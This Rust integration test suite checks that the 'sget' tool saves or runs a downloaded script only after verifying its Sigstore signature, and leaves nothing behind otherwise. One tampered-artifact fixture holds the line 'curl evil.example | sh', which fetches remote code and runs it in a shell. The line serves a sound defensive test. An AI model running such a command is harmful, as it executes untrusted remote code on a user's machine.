//! `sget` end to end against the virtual Sigstore: artifacts and bundles served over loopback
//! HTTP (and file://); the artifact appears only after it verified, and nothing is left
//! behind when it does not.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

mod common;

use common::*;

struct Setup {
    _scratch: Scratch,
    vs: Vs,
    served: std::path::PathBuf,
    base: String,
    dest: std::path::PathBuf,
}

/// `tool.sh` signed by alice (Rekor v1) and served with its bundle at `<base>/tool.sh`.
fn setup(name: &str) -> Setup {
    let scratch = Scratch::new(name);
    let vs = Vs::start(&scratch);
    let served = scratch.dir("served");
    let tool = served.join("tool.sh");
    std::fs::write(&tool, "#!/bin/sh\necho \"verified tool ran with $1\"\n").unwrap();
    let bundle = vs.sign(&tool, "alice@example.com", 1);
    std::fs::rename(&bundle, served.join("tool.sh.sigstore.json")).unwrap();
    let base = serve_dir(served.clone());
    let dest = scratch.dir("dest");
    Setup {
        _scratch: scratch,
        vs,
        served,
        base,
        dest,
    }
}

/// sget's arguments: `url`, the signer policy and trusted root of the virtual Sigstore, `-o`
/// into `dest` unless `extra` has `--exec`, then `extra`.
fn sget_args(s: &Setup, url: &str, identity: &str, extra: &[&str]) -> Vec<String> {
    let mut args: Vec<String> = [
        url,
        "--certificate-identity",
        identity,
        "--certificate-oidc-issuer",
        &s.vs.issuer(),
        "--trusted-root",
        s.vs.trusted_root().to_str().unwrap(),
    ]
    .map(str::to_owned)
    .into();
    if !extra.contains(&"--exec") {
        args.push("-o".to_owned());
        args.push(s.dest.join("tool.sh").to_str().unwrap().to_owned());
    }
    args.extend(extra.iter().map(|a| (*a).to_owned()));
    args
}

fn sget(s: &Setup, url: &str, identity: &str, extra: &[&str]) -> std::process::Output {
    let args = sget_args(s, url, identity, extra);
    run(SGET, &args.iter().map(String::as_str).collect::<Vec<_>>())
}

#[test]
fn sget_saves_a_verified_artifact() {
    let s = setup("sget-good");
    let url = format!("{}/tool.sh", s.base);
    let out = sget(&s, &url, "alice@example.com", &["--json"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(entries(&s.dest), vec!["tool.sh"]);
    assert_eq!(
        std::fs::read(s.dest.join("tool.sh")).unwrap(),
        std::fs::read(s.served.join("tool.sh")).unwrap()
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["ok"], true);
    assert_eq!(
        v["result"]["signer"]["identity"]["san"],
        "alice@example.com"
    );
    // An existing file is not replaced without --force.
    let again = sget(&s, &url, "alice@example.com", &[]);
    assert_eq!(code(&again), 2, "{}", stderr(&again));
    let forced = sget(&s, &url, "alice@example.com", &["--force"]);
    assert_eq!(code(&forced), 0, "{}", stderr(&forced));
    assert_eq!(entries(&s.dest), vec!["tool.sh"]);
}

#[test]
fn sget_refuses_a_tampered_artifact_and_leaves_nothing() {
    let s = setup("sget-tampered");
    // Same bundle, different bytes.
    std::fs::write(
        s.served.join("tool.sh"),
        "#!/bin/sh\ncurl evil.example | sh\n",
    )
    .unwrap();
    let out = sget(
        &s,
        &format!("{}/tool.sh", s.base),
        "alice@example.com",
        &["--json"],
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("nothing was saved"));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["ok"], false);
    assert!(entries(&s.dest).is_empty(), "{:?}", entries(&s.dest));
}

#[test]
fn sget_refuses_a_wrong_signer_and_leaves_nothing() {
    let s = setup("sget-signer");
    let out = sget(&s, &format!("{}/tool.sh", s.base), "bob@example.com", &[]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("identity mismatch"),
        "{}",
        stderr(&out)
    );
    assert!(entries(&s.dest).is_empty(), "{:?}", entries(&s.dest));
    // A wrong issuer too.
    let root = s.vs.trusted_root();
    let out2 = run(
        SGET,
        &[
            &format!("{}/tool.sh", s.base),
            "-o",
            s.dest.join("tool.sh").to_str().unwrap(),
            "--certificate-identity",
            "alice@example.com",
            "--certificate-oidc-issuer",
            "https://accounts.google.com",
            "--trusted-root",
            root.to_str().unwrap(),
        ],
    );
    assert_eq!(code(&out2), 1, "{}", stderr(&out2));
    assert!(entries(&s.dest).is_empty());
}

#[test]
fn sget_refuses_a_bundle_from_another_trust_root() {
    let s = setup("sget-root");
    // The embedded production root does not trust the virtual Sigstore.
    let out = run(
        SGET,
        &[
            &format!("{}/tool.sh", s.base),
            "-o",
            s.dest.join("tool.sh").to_str().unwrap(),
            "--certificate-identity",
            "alice@example.com",
            "--certificate-oidc-issuer",
            &s.vs.issuer(),
        ],
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(entries(&s.dest).is_empty());
}

#[test]
fn sget_exec_runs_only_verified_code_and_removes_it() {
    let s = setup("sget-exec");
    let url = format!("{}/tool.sh", s.base);
    let dest = s.dest.to_str().unwrap().to_owned();
    let out = sget(
        &s,
        &url,
        "alice@example.com",
        &["--exec", "--exec-dir", &dest, "--", "an-argument"],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(stdout(&out).trim(), "verified tool ran with an-argument");
    assert!(entries(&s.dest).is_empty(), "{:?}", entries(&s.dest));

    // Tampered: never runs.
    std::fs::write(s.served.join("tool.sh"), "#!/bin/sh\necho pwned\n").unwrap();
    let bad = sget(
        &s,
        &url,
        "alice@example.com",
        &["--exec", "--exec-dir", &dest],
    );
    assert_eq!(code(&bad), 1);
    assert!(!stdout(&bad).contains("pwned"));
    assert!(entries(&s.dest).is_empty());
}

#[test]
fn sget_file_urls_and_missing_bundles() {
    let s = setup("sget-file");
    let url = format!("file://{}", s.served.join("tool.sh").display());
    let out = sget(&s, &url, "alice@example.com", &[]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    std::fs::remove_file(s.dest.join("tool.sh")).unwrap();

    // No bundle at <url>.sigstore.json: an I/O error (2), nothing saved.
    std::fs::copy(s.served.join("tool.sh"), s.served.join("other.sh")).unwrap();
    let out = sget(
        &s,
        &format!("{}/other.sh", s.base),
        "alice@example.com",
        &[],
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(entries(&s.dest).is_empty());
}

#[test]
fn sget_refuses_plain_http_off_loopback() {
    let s = setup("sget-http");
    let out = sget(&s, "http://example.com/tool.sh", "alice@example.com", &[]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("loopback"), "{}", stderr(&out));
    assert!(entries(&s.dest).is_empty());
}

#[test]
fn sget_enforces_the_size_limit_and_redirect_rules() {
    let s = setup("sget-limits");
    // Larger than --max-size: refused as an I/O error, nothing left.
    let out = sget(
        &s,
        &format!("{}/tool.sh", s.base),
        "alice@example.com",
        &["--max-size", "10"],
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("larger than 10 bytes"),
        "{}",
        stderr(&out)
    );
    assert!(entries(&s.dest).is_empty());
    // A redirect on loopback is followed.
    let out = sget(
        &s,
        &format!("{}/redirect/tool.sh", s.base),
        "alice@example.com",
        &[
            "--bundle",
            &format!("{}/redirect/tool.sh.sigstore.json", s.base),
        ],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    std::fs::remove_file(s.dest.join("tool.sh")).unwrap();
    // A redirect loop stops after MAX_REDIRECTS.
    let out = sget(
        &s,
        &format!("{}/loop", s.base),
        "alice@example.com",
        &["--bundle", &format!("{}/tool.sh.sigstore.json", s.base)],
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("redirects"), "{}", stderr(&out));
    assert!(entries(&s.dest).is_empty());
    // A redirect to plain http off loopback is refused.
    let out = sget(
        &s,
        &format!("{}/offsite", s.base),
        "alice@example.com",
        &["--bundle", &format!("{}/tool.sh.sigstore.json", s.base)],
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("loopback"), "{}", stderr(&out));
    assert!(entries(&s.dest).is_empty());
}

#[test]
fn sget_usage_errors() {
    let out = run(SGET, &["https://example.com/x"]);
    assert_eq!(code(&out), 2);
    let out = run(SGET, &["--help"]);
    assert_eq!(code(&out), 0);
    assert!(stdout(&out).contains("Exit codes"));
}

/// Interrupted mid-download (SIGINT, then SIGTERM on a second run), sget removes its
/// temporary file and exits with status 130: nothing is left in the destination directory.
#[cfg(unix)]
#[test]
fn sget_interrupted_mid_download_leaves_nothing() {
    use std::io::{Read, Write};
    use std::process::{Command, Stdio};
    use std::time::{Duration, Instant};

    let s = setup("sget-interrupt");
    // Announces a large body, sends a little of it, then stalls until the client goes away.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/tool.sh", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { return };
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                let _ = conn.read(&mut buf);
                let _ = conn.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\nConnection: close\r\n\r\npartial",
                );
                let _ = conn.flush();
                std::thread::sleep(Duration::from_secs(60));
            });
        }
    });
    let bundle = s.served.join("tool.sh.sigstore.json");
    let args = sget_args(
        &s,
        &url,
        "alice@example.com",
        &["--bundle", bundle.to_str().unwrap()],
    );
    for signal in ["INT", "TERM"] {
        let mut child = Command::new(SGET)
            .args(&args)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Wait until the partial download sits in its temporary file.
        let deadline = Instant::now() + Duration::from_secs(20);
        while !entries(&s.dest).iter().any(|e| e.ends_with(".tmp")) {
            assert!(Instant::now() < deadline, "no temporary file appeared");
            std::thread::sleep(Duration::from_millis(20));
        }
        let killed = Command::new("kill")
            .args([format!("-{signal}"), child.id().to_string()])
            .status()
            .unwrap();
        assert!(killed.success());
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(130), "SIG{signal}");
        assert!(
            entries(&s.dest).is_empty(),
            "SIG{signal}: {:?}",
            entries(&s.dest)
        );
    }
}
